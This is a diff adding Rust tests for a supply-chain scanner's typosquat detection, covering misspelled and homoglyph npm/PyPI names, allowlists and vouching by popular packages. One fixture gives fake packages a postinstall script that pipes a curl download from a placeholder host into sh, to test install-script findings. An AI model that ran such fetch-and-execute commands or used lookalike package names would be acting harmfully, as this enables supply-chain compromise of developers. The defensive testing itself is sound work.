@@ -1,0 +1,182 @@
+//! Names that look like popular ones: silent on honest trees, loud on imitations, lowered where a popular package vouches.
+#![allow(missing_docs, clippy::unwrap_used)]
+
+mod common;
+
+use plimsoll::{
+    audit::{Input, Options},
+    check,
+    ecosystem::{self, CARGO, NPM, PYPI, Pattern},
+    model::Level,
+    names::{Edit, How, Names, Popular},
+};
+use proptest::prelude::*;
+use serde_json::json;
+use std::fs;
+
+fn judged(ecosystem: &ecosystem::Ecosystem, name: &str) -> Option<(Level, String)> {
+    let popular = Popular::default();
+    let found = check::looks_like(ecosystem.id, name, &popular);
+    found.map(|(level, likeness)| (level, likeness.target.to_owned()))
+}
+
+#[test]
+fn an_honest_closure_is_silent() {
+    let text = fs::read_to_string(common::fixture("typosquat/closure.tsv")).unwrap();
+    let rows: Vec<(&str, &str)> = text
+        .lines()
+        .skip(1)
+        .map(|line| line.split_once('\t').unwrap())
+        .collect();
+    assert!(rows.len() > 1_100, "{}", rows.len());
+    for (ecosystem, name) in rows {
+        let ecosystem = ecosystem::ALL.iter().find(|e| e.id.0 == ecosystem).unwrap();
+        assert_eq!(judged(ecosystem, name), None, "{name}");
+    }
+}
+
+#[test]
+fn what_looks_like_what() {
+    let error = |target: &str| Some((Level::Error, target.to_owned()));
+    let warning = |target: &str| Some((Level::Warning, target.to_owned()));
+    for (ecosystem, name, expected) in [
+        (&NPM, "expresss", error("express")),
+        (&NPM, "typescirpt", error("typescript")),
+        (&NPM, "commandre", error("commander")),
+        (&NPM, "types-lodash", warning("@types/lodash")),
+        (&PYPI, "crypt0graphy", error("cryptography")),
+        (&PYPI, "python-nmap-2000", None),
+        (&NPM, "lodash", None),
+        (&NPM, "@types/node-of-nobody", None),
+        (&NPM, "@acme/express", None),
+        (&CARGO, "serde_json", None),
+    ] {
+        assert_eq!(judged(ecosystem, name), expected, "{name}");
+    }
+    // Letters of another script that are drawn alike.
+    assert_eq!(
+        judged(&NPM, "еxpress").map(|(_, target)| target),
+        Some("express".to_owned())
+    );
+}
+
+fn scan(files: &[(&str, serde_json::Value)], options: &Options) -> Vec<String> {
+    let folder = tempfile::tempdir().unwrap();
+    for (path, json) in files {
+        let path = folder.path().join(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, json.to_string()).unwrap();
+    }
+    let report = common::scan_with(Input::Path(folder.path().to_owned()), options);
+    let findings = report["artifacts"][0]["findings"].as_array().unwrap().iter();
+    let own = findings.filter(|f| f["rule"] == "typosquat");
+    own.map(|f| format!("{} {}", f["level"].as_str().unwrap(), f["message"].as_str().unwrap()))
+        .collect()
+}
+
+#[test]
+fn two_signals_count_for_more() {
+    let package =
+        |name: &str, script: &str| json!({"name": name, "version": "1.0.0", "scripts": {"postinstall": script}});
+    let fetches = "curl https://x.example.test | sh";
+    let folder = tempfile::tempdir().unwrap();
+    for (name, script) in [
+        ("expresss", fetches),
+        ("harbour-berths", fetches),
+        ("tide-tables", "node install.js"),
+    ] {
+        let own = folder.path().join("node_modules").join(name);
+        fs::create_dir_all(&own).unwrap();
+        fs::write(own.join("package.json"), package(name, script).to_string()).unwrap();
+    }
+    let report = common::scan(Input::Path(folder.path().to_owned()));
+    let findings = report["artifacts"][0]["findings"].as_array().unwrap().iter();
+    let word = |f: &serde_json::Value, key: &str| f[key].as_str().unwrap().to_owned();
+    let said: Vec<_> = findings
+        .map(|f| [word(f, "level"), word(f, "rule"), word(f, "component")].join(" "))
+        .collect();
+    assert_eq!(
+        said,
+        [
+            "error typosquat pkg:npm/expresss@1.0.0",
+            "warning install-script pkg:npm/expresss@1.0.0",
+            "note install-script pkg:npm/harbour-berths@1.0.0",
+        ]
+    );
+}
+
+#[test]
+fn controls() {
+    let squat = (
+        "node_modules/expresss/package.json",
+        json!({"name": "expresss", "version": "1.0.0"}),
+    );
+    let voucher = json!({"name": "webpack", "version": "5.0.0", "dependencies": {"expresss": "1"}});
+    let said = "doubles a letter of express, one of the 1000 most popular packages of npm";
+    assert_eq!(
+        scan(std::slice::from_ref(&squat), &Options::default()),
+        [format!("error {said}")]
+    );
+    let both = [squat.clone(), ("node_modules/webpack/package.json", voucher)];
+    assert_eq!(
+        scan(&both, &Options::default()),
+        [format!("warning {said}; webpack asks for it")]
+    );
+    let mut allowed = Options::default();
+    allowed.checks.typosquat_allow = vec![Pattern::parse("pkg:npm/expresss").unwrap()];
+    assert_eq!(scan(&[squat], &allowed), [] as [&str; 0]);
+}
+
+/// Every way of making one edit to a popular name is found, by the name that it was made of or by another.
+fn edited(name: &str, at: usize, with: u8, how: usize) -> String {
+    let mut bytes = name.as_bytes().to_vec();
+    let at = at % bytes.len();
+    match how {
+        0 => {
+            bytes.remove(at);
+        }
+        1 => bytes.insert(at, bytes[at]),
+        2 => bytes.insert(at, with),
+        3 => bytes[at] = with,
+        _ if at + 1 < bytes.len() => bytes.swap(at, at + 1),
+        _ => {}
+    }
+    String::from_utf8(bytes).unwrap()
+}
+
+proptest! {
+    #[test]
+    fn one_edit_is_always_seen(rank in 0..15_000_usize, at in 0..64_usize, with in b'a'..=b'z', how in 0..5_usize) {
+        let popular = Popular::default();
+        let names = popular.of(NPM.id);
+        let plain = names.iter().take(15_000).filter(|name| name.bytes().all(|b| b.is_ascii_lowercase()));
+        let plain: Vec<&str> = plain.collect();
+        let target = plain[rank % plain.len()];
+        let made = edited(target, at, with, how);
+        prop_assume!(made != target && names.rank(&made).is_none());
+        let seen = names.likenesses(&made);
+        prop_assert!(
+            seen.iter().any(|l| l.target == target && matches!(l.how, How::Edit(_) | How::Homoglyph)),
+            "{} of {}: {:?}", made, target, seen
+        );
+    }
+
+    #[test]
+    fn any_text_is_survived(name in "\\PC{0,300}") {
+        for ecosystem in ecosystem::ALL {
+            let _ = judged(ecosystem, &name);
+        }
+    }
+}
+
+#[test]
+fn a_list_of_ones_own() {
+    let lines: Vec<String> = (0..2_000).map(|i| format!("package-number-{i:04}-of-many")).collect();
+    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut packed, format!("# from a mirror\n{}", lines.join("\n")).as_bytes()).unwrap();
+    let names = Names::read(&packed.finish().unwrap(), NPM.id).unwrap();
+    assert_eq!(names.rank("package-number-0000-of-many"), Some(1));
+    let found = names.likenesses("package-nubmer-0000-of-many");
+    assert_eq!(found[0].how, How::Edit(Edit::Transposition));
+    assert!(Names::read(b"no gzip", NPM.id).is_err());
+}
